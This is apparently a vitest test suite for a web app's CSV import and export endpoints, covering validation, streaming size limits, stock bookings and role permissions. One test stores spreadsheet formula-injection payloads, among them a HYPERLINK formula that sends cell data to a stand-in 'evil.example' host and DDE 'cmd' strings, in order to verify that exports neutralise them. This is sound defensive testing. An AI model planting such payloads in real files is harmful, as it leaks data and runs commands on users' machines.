import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTestApp } from "../test/harness";
import { createProduct, stockLevel } from "../test/sales";
import { listenSignedIn, signedInAs } from "../test/session";
import { neutralized, typedBack } from "./csv";
import { maxImportMegabytes } from "./upload";

let ctx: Awaited<ReturnType<typeof openTestApp>>;
let sales: Awaited<ReturnType<typeof signedInAs>>;
let categoryId: number;
beforeAll(async () => {
  ctx = await openTestApp();
  sales = await signedInAs(ctx.app, ctx.db, ["SALES"]);
  categoryId = (await sales.agent.post("/api/product-categories").send({ name: "Imported" })).body.id;
});
afterAll(() => ctx.close());

const importCsv = (resource: string, csv: string) => sales.agent.post(`/api/${resource}/import`).set("Content-Type", "text/csv").send(csv);
const count = async (table: string) => Number((await ctx.db(table).count({ n: "*" }).first())!.n);

describe("CSV import", () => {
  it("imports products from a text/csv body, all in one go", async () => {
    const res = await importCsv("products", `code,name,price,category_id\nIMP-1,Imported one,12.5,${categoryId}\nIMP-2,"Imported, two",3,\n`);
    expect(res.status).toBe(201);
    expect(res.body).toEqual({ message: "2 records imported", imported: 2, charset: "UTF-8", charset_from: "default" });
    const rows = (await sales.agent.get("/api/products?code_like=IMP-&_sort=code")).body;
    expect(
      rows.map((r: { name: string; price: string; category_id: number | null; uom: string }) => [r.name, r.price, r.category_id, r.uom]),
    ).toEqual([
      ["Imported one", "12.50", categoryId, "pcs"],
      ["Imported, two", "3.00", null, "pcs"],
    ]);
    const log = await ctx.db("behaviour_logs").where({ action: "import", target: "products" }).first();
    expect(log.user_id).toBe(sales.user.id);
  });

  it("imports customers from a multipart file, with custom info as JSON, in the user's language", async () => {
    const csv = `\uFEFFname,email,custom_info,advance\nAmy,amy@imp.test,"[{""key"":""VIP"",""value"":""yes""}]",100\nBen,,,\n`;
    const res = await sales.agent.post("/api/customers/import").set("Accept-Language", "zh-HK").attach("file", Buffer.from(csv), "customers.csv");
    expect(res.status).toBe(201);
    expect(res.body.imported).toBe(2);
    expect(res.body.message).toBe("已匯入 2 筆記錄");
    const amy = await ctx.db("customers").where({ name: "Amy" }).first();
    expect(amy).toMatchObject({ custom_info: [{ key: "VIP", value: "yes" }], advance: "100.00", status: "active" });
  });

  it("takes back its own export (system and read-only columns are ignored)", async () => {
    const exported = await sales.agent.get("/api/customers/export.csv?name=Amy").buffer(true);
    const copy = exported.text.replace("amy@imp.test", "amy2@imp.test");
    const res = await importCsv("customers", copy);
    expect(res.status).toBe(201);
    expect(await count("customers")).toBe(3);
  });

  it("neutralises formulas on export (OWASP: a leading apostrophe) and takes every value back as typed", async () => {
    const typed = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      "+852 2345 6789",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "=1+1",
      "'=already quoted",
      "''+twice",
      "-5",
      "'-5",
      "plain 'quote",
    ];
    for (const [i, name] of typed.entries())
      await sales.agent
        .post("/api/customers")
        .send({ name, email: `formula-${i}@csv.test`, address: name })
        .expect(201);
    const exported = await sales.agent.get("/api/customers/export.csv?email_like=@csv.test&_sort=email").buffer(true);
    const rows = parse(exported.text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
      "'+852 2345 6789",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'=1+1",
      "''=already quoted",
      "'''+twice",
      "-5",
      "''-5",
      "plain 'quote",
    ]);
    // no cell of the file begins with a formula character (a plain negative number is no formula)
    for (const row of rows) for (const value of Object.values(row)) expect(value, value).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    await ctx.db("customers").where("email", "like", "%@csv.test").delete();
    const res = await importCsv("customers", exported.text);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const back = await ctx.db("customers").where("email", "like", "%@csv.test").orderBy("email").select("name", "address");
    expect(back.map((r) => r.name)).toEqual(typed);
    expect(back.map((r) => r.address)).toEqual(typed);
    // a stored text never begins with a tab or a carriage return (fields are trimmed), but a report's cell could
    for (const text of ["\t=1+1", "\r=1+1", "'\t=1"]) expect(typedBack(neutralized(text))).toBe(text);
    expect(neutralized("\t=1+1")).toBe("'\t=1+1");
  });

  it.each([
    ["an unknown column", "code,name,price,colour\nX,Y,1,red\n"],
    ["a missing required column", "code,price\nX,1\n"],
    ["a repeated column", "code,name,name,price\nX,Y,Z,1\n"],
    ["rows of the wrong width", "code,name,price\nX,Y\n"],
    ["not CSV at all", '{"code": "X"}'],
  ])("refuses %s: Invalid CSV file format", async (_name, csv) => {
    const before = await count("products");
    const res = await importCsv("products", csv);
    expect(res.status).toBe(400);
    expect(res.body.message).toBe("Invalid CSV file format");
    expect(await count("products")).toBe(before);
  });

  it("refuses broken quoting halfway through a file, after good batches: Invalid CSV file format, nothing written", async () => {
    const before = await count("products");
    const good = Array.from({ length: 6_000 }, (_, i) => `BRK-${i},Fine ${i},1`).join("\n");
    const res = await importCsv("products", `code,name,price\n${good}\nBRK-X,"never closed,1\n`);
    expect(res.status).toBe(400);
    expect(res.body.message).toBe("Invalid CSV file format");
    expect(await count("products")).toBe(before);
  });

  it("reads the upload as it streams in, and answers 413 on the same connection once it passes the limit", async () => {
    const { base, cookie, csrfToken, close } = await listenSignedIn(ctx.app, sales.user.email);
    try {
      const before = await count("products");
      // Chunked, no Content-Length: only counting the bytes as they arrive can stop it. One endless
      // quoted cell, so nothing before the limit is a whole record to insert.
      const megabyte = new TextEncoder().encode("a".repeat(1024 * 1024));
      let sent = 0;
      const body = new ReadableStream({
        pull(controller) {
          if (sent++ > maxImportMegabytes + 10) return controller.close();
          controller.enqueue(sent === 1 ? new TextEncoder().encode('code,name,price\nBIG-1,"') : megabyte);
        },
      });
      const res = await fetch(`${base}/products/import`, {
        method: "POST",
        headers: { "Content-Type": "text/csv", Cookie: cookie, "X-CSRF-Token": csrfToken },
        body,
        duplex: "half",
      } as RequestInit);
      expect(res.status).toBe(413);
      expect(((await res.json()) as { message: string }).message).toMatch(String(maxImportMegabytes));
      expect(await count("products")).toBe(before);
      expect((await fetch(`${base}/products?_end=1`, { headers: { Cookie: cookie } })).status).toBe(200);
    } finally {
      close();
    }
  });

  it("answers Empty data for a multipart upload without the `file` field", async () => {
    const res = await sales.agent.post("/api/products/import").attach("other", Buffer.from("code,name,price\nX,Y,1\n"), "p.csv");
    expect(res.status).toBe(400);
    expect(res.body.message).toBe("Empty data");
  });

  it.each([
    ["a header only", "code,name,price\n"],
    ["an empty body", ""],
  ])("refuses %s: Empty data", async (_name, csv) => {
    const res = await importCsv("products", csv);
    expect(res.status).toBe(400);
    expect(res.body.message).toBe("Empty data");
  });

  it("lists every row error with its row number and writes nothing", async () => {
    await createProduct(sales.agent);
    const taken = (await ctx.db("products").first("code")).code;
    const csv = [
      "code,name,price,category_id",
      "OK-1,Fine,1.00,",
      "BAD-1,,2.00,", // row 3: no name
      "BAD-2,Negative,-5,", // row 4
      `${taken},Taken code,1,`, // row 5: exists already
      "DUP-1,First,1,", // row 6
      "dup-1,Second,1,", // row 7: same code in the file
      "BAD-3,No such category,1,987654", // row 8
      "BAD-4,Price,abc,", // row 9
    ].join("\n");
    const before = await count("products");
    const res = await importCsv("products", csv);
    expect(res.status).toBe(400);
    expect(res.body.message).toBe("6 rows have errors; nothing was imported");
    expect(res.body.rows).toEqual([
      { row: 3, field: "name", message: "input can not be empty" },
      { row: 4, field: "price", message: "Value cannot be negative" },
      { row: 5, field: "code", message: "This value is already in use" },
      { row: 7, field: "code", message: "This value is already in use" },
      { row: 8, field: "category_id", message: "The selected record does not exist" },
      { row: 9, field: "price", message: "Must be an amount with at most two decimals" },
    ]);
    expect(res.body.errors["3.name"]).toBe("input can not be empty");
    expect(await count("products")).toBe(before);
  });

  it("books imported stock movements against the levels, all or nothing", async () => {
    const product = await createProduct(sales.agent, { name: "Imported stock" });
    const ok = await importCsv("stock-movements", `product_id,type,quantity,unit_cost\n${product.id},in,10,2.00\n${product.id},sold,4,\n`);
    expect(ok.status).toBe(201);
    expect(await stockLevel(ctx.db, product.id)).toMatchObject({ on_hand: 6, sold: 4, value: "12.00" });
    const short = await importCsv("stock-movements", `product_id,type,quantity\n${product.id},in,1\n${product.id},sold,50\n`);
    expect(short.status).toBe(422);
    expect(short.body.message).toBe("Not enough stock of Imported stock: 7 on hand, 50 wanted");
    expect(await stockLevel(ctx.db, product.id)).toMatchObject({ on_hand: 6, sold: 4 });
  });

  it("is offered only where the declaration allows it, to roles that may create", async () => {
    expect((await importCsv("orders", "customer_id\n1\n")).status).toBe(405);
    const hr = await signedInAs(ctx.app, ctx.db, ["HR"]);
    expect((await hr.agent.post("/api/users/import").set("Content-Type", "text/csv").send("name\nx\n")).status).toBe(403);
  });
});
